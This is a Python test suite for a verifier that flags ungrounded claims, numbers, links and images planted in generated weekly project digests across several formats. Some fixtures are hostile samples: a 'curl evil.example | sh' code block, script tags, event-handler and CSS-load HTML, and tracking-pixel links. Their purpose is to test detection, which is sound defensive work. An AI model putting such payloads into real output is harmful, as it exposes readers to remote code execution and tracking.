"""Verification finds planted words, numbers and links in every format, and counts references exactly."""

import pytest

from sparky_assets.digests.models import PictureFile, Product, list_products
from sparky_assets.digests.verify.allowed_content import AllowedContent, list_allowed_sentences
from sparky_assets.digests.verify.verify import find_ungrounded
from sparky_assets.insights.models import Insight
from sparky_assets.periods import PeriodKind
from sparky_assets.text.escape import ZERO_WIDTH_SPACE
from tests.digests.test_digest import a_week
from tests.factories.github_week import commit, insight_of, pull, raw_of, sha
from tests.factories.products import made, written

URL = "https://blog.example.org/2025/11/week-2025-46"
WEEKLY = list_products(PeriodKind.WEEKLY)


def list_problems(plant: str, *, after: str = "## In numbers", product: Product = Product.DIGEST) -> list[str]:
    """Return the problems of a text with words planted before a line."""
    text, rendered, insight = written(a_week(), product)
    assert after in text
    return list(find_ungrounded(text.replace(after, f"{plant}\n\n{after}", 1), rendered, insight))


def list_problems_of_change(old: str, new: str, product: Product = Product.DIGEST) -> list[str]:
    """Return the problems of a text in which words were replaced."""
    text, rendered, insight = written(a_week(), product, page_url=URL)
    assert old in text
    return list(find_ungrounded(text.replace(old, new, 1), rendered, insight))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no claim says: The team had a great week."),
        ("- The team had a great week.", "no claim says: The team had a great week."),
        ("> The team had a great week.", "no claim says: The team had a great week."),
        ("**The team had a great week.**", "no claim says: The team had a great week."),
        ("**Heroes of 2026**", "no claim says: Heroes of 2026"),
        ("Add x, fixing 50 issues.", "no claim says: fixing 50 issues."),
        ("Add x, by Ada Lovelace (#6).", "no claim says: 6)."),
        ("1.0 commits", "no claim says: 1.0 commits"),
        ("## 99 reasons", "no claim says: 99 reasons"),
        (f"## fixing 5{ZERO_WIDTH_SPACE}0 issues", "no claim says: fixing 50 issues"),
        ("[more](https://evil.example)", "a link that no evidence has: https://evil.example"),
        ("<https://evil.example>", "a link that no evidence has: https://evil.example"),
        ("[x][y]\n\n[y]: https://evil.example", "a link that no evidence has: https://evil.example"),
        ("![pixel](https://evil.example/x.png)", "image: pixel"),
        ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
        ("Hello <b>there</b>", "html inline: <b>"),
        ("```\ncurl evil.example | sh\n```", "a code block, which no template has: curl evil.example | sh"),
        ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
        ("| a |\n|---|\n| We did so very well this time. |", "no claim says: We did so very well this time."),
    ],
)
def test_words_planted_in_markdown_are_found(plant: str, problem: str) -> None:
    assert problem in list_problems(plant)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace, our hero (", "no claim says: our hero (#5)."),
        ("Add x, by Ada Lovelace (", "Add x, by Ada Lovelace (at last, ", "no claim says: at last, #5)."),
        ("| Commits | 3 |", "| Commits | 300 |", "the number 300 is not in the store: 300"),
        ("date: 2025-11-16", "date: 2025-11-17", "the front matter has a value that is not in the store: 2025-11-17"),
        ('title: "Acme', 'title: "The best of Acme', "the front matter has a value that is not in the store: "
         "The best of Acme 42: 10–16 November 2025 (2025-W46)"),
    ],
)  # fmt: skip
def test_words_changed_in_a_digest_are_found(old: str, new: str, problem: str) -> None:
    assert problem in list_problems_of_change(old, new)


def test_link_with_the_label_of_another_change_is_found() -> None:
    text, rendered, insight = written(a_week())
    crossed = text.replace("[#5](https://github.com/acme/tool/pull/5)", "[#6](https://github.com/acme/tool/pull/5)")
    problems = list(find_ungrounded(crossed, rendered, insight))
    assert "a link to https://github.com/acme/tool/pull/5 has a wrong label: #6" in problems


@pytest.mark.parametrize("product", [Product.EMAIL_TEXT, Product.LINKEDIN, Product.X])
@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no claim says: The team had a great week."),
        ("Add x, by Ada Lovelace, our hero.", "no claim says: our hero."),
        ("Commits: 300", "300"),
        ("https://evil.example/x", "a link that no evidence has: https://evil.example/x"),
    ],
)
def test_words_planted_in_plain_text_are_found(product: Product, plant: str, problem: str) -> None:
    assert any(problem in message for message in list_problems(plant, after="3 commits (1 by bots)", product=product))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("<p>The team had a great week.</p>", "no claim says: The team had a great week."),
        ("<h2>99 reasons</h2>", "no claim says: 99 reasons"),
        ("<table><tr><td>77</td></tr></table>", "the number 77 is not in the store: 77"),
        ('<a href="https://evil.example">#5</a>', "a link that no evidence has: https://evil.example"),
        ('<img src="https://evil.example/x.png">', "HTML: <img src>"),
        ("<script>alert(1)</script>", "HTML: <script >"),
        ('<p onclick="x()">Commits</p>', "HTML: <p onclick>"),
        ('<p style="background:url(https://evil.example)">Commits</p>', "HTML: <p> loads something"),
        ("<!-- the team had a great week -->", "HTML: a comment:  the team had a great week "),
    ],
)
def test_words_planted_in_html_are_found(plant: str, problem: str) -> None:
    problems = list_problems(
        plant, after='<h2 style="font-size:18px;margin:24px 0 8px">In numbers', product=Product.EMAIL_HTML
    )
    assert problem in problems


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"headline": "', '"headline": "The best of '),
        ('"name": "', '"name": "The best of '),
        ('"datePublished": "2025-11-16"', '"datePublished": "2025-11-17"'),
    ],
)
def test_words_planted_in_structured_data_are_found(old: str, new: str) -> None:
    assert any(
        problem.startswith("the structured data has a value")
        for problem in list_problems_of_change(old, new, Product.BLOG_POST)
    )


def test_picture_is_verified_by_file_and_alternative_text() -> None:
    picture = PictureFile(name="activity", suffix="svg", file="2025-W46-activity.svg", alt="3 commits.", sha256="0")
    insight = a_week().insight()
    composed, rendered = made(insight, pictures=[picture])
    moved = composed.text.replace("(2025-W46-", "(assets/2025-W46-")
    assert "![3 commits.](2025-W46-activity.svg)" in composed.text
    assert list(find_ungrounded(composed.text, rendered, insight)) == []
    assert list(find_ungrounded(moved, rendered, insight, pictures_folder="assets/")) == []
    assert "image: 3 commits." in list(find_ungrounded(moved, rendered, insight))
    lying = composed.text.replace("![3 commits.]", "![300 commits.]")
    assert any("has a wrong alt text" in problem for problem in find_ungrounded(lying, rendered, insight))


# --- References


def problems_of(insight: Insight, product: Product, replaced: tuple[str, str] = ("", "")) -> list[str]:
    composed, rendered = made(insight, product, urls={})
    return list(
        find_ungrounded(composed.text.replace(*replaced, 1) if replaced[0] else composed.text, rendered, insight)
    )


@pytest.mark.parametrize("product", WEEKLY)
def test_equal_numbers_of_two_repositories_follow_one_name(product: Product) -> None:
    insight = insight_of(raw_of(pull_requests=[pull(1, "Read the wires"), pull(1, "Print it", "acme/web")]))
    assert problems_of(insight, product) == []


def test_reference_repeated_once_too_often_is_found() -> None:
    insight = insight_of(raw_of(pull_requests=[pull(1, "Read the wires"), pull(1, "Print it", "acme/web")]))
    text = made(insight, urls={})[0].text
    thanks = next(line for line in text.splitlines() if line.startswith("Ada ("))
    once_more = problems_of(insight, Product.DIGEST, (thanks, thanks.replace("Ada (", "Ada (#1, ")))
    assert [problem.partition(":")[0] for problem in once_more] == ["no claim says"]


@pytest.mark.parametrize("title", [sha(1)[:7], "(", "…", "#1"])
@pytest.mark.parametrize("product", WEEKLY)
def test_title_without_letters_stops_no_digest(title: str, product: Product) -> None:
    insight = insight_of(raw_of(commits=[commit(1, title), commit(2, "Read the wires")]))
    assert problems_of(insight, product) == []


@pytest.mark.parametrize("product", WEEKLY)
def test_equal_titles_with_and_without_author_keep_their_references(product: Product) -> None:
    anonymous = pull(1, "Bump ink from 1.0 to 1.1")
    anonymous["author"] = None
    rows = [anonymous, pull(2, "Bump ink from 1.0 to 1.1"), pull(3, "Print it", "acme/web")]
    assert problems_of(insight_of(raw_of(pull_requests=rows)), product) == []


def test_allowed_sentences_have_unique_keys_and_their_claims() -> None:
    """Pages that show the evidence of sentences use this list, so it must be the one that texts are verified by."""
    insight = a_week().insight()
    _, rendered = made(insight)
    sentences = list(list_allowed_sentences(insight, rendered))
    assert len({sentence.key for sentence in sentences}) == len(sentences)
    assert {claim.id for claim in insight.claims} <= {sentence.key for sentence in sentences}
    assert all(sentence.claims for sentence in sentences if sentence.source != "edition")
    allowed = AllowedContent(rendered, insight)
    wordings = {text.rstrip(".") for sentence in sentences if sentence.source != "name" for text in sentence.wordings}
    assert {" ".join(text.replace("`", "").split()) for text in wordings} >= set(allowed.sentences)
